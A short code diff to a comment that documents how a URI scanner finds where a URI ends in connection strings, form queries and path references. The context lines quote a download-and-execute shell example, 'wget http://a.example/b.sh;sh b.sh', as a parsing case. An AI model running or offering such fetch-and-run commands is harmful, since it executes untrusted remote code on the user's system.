@@ -93,7 +93,8 @@
 //     separator stands before the item of the URI, too, or "{" or "(" before a comma, or if
 //     a semicolon follows the root, as in "Endpoint=sb://a.example/;Key=b";
 //   - the next item of a form, "a=1&b=http://a.example/c&d=2", if the URI has no query, and
-//     an ampersand and no query stand before its own item, or it is a URN;
+//     an ampersand and no query stand before its own item, or it is a URN; likewise in the
+//     query of a reference to a path, "/a?b=http://a.example/c&d=2", or that of a log in a field;
 //   - behind a command that downloads the URI, a semicolon or two ampersands in the path
 //     with another command behind them: "wget http://a.example/b.sh;sh b.sh";
 //   - behind the authority, an apostrophe or a backtick that nothing in the URI opens and
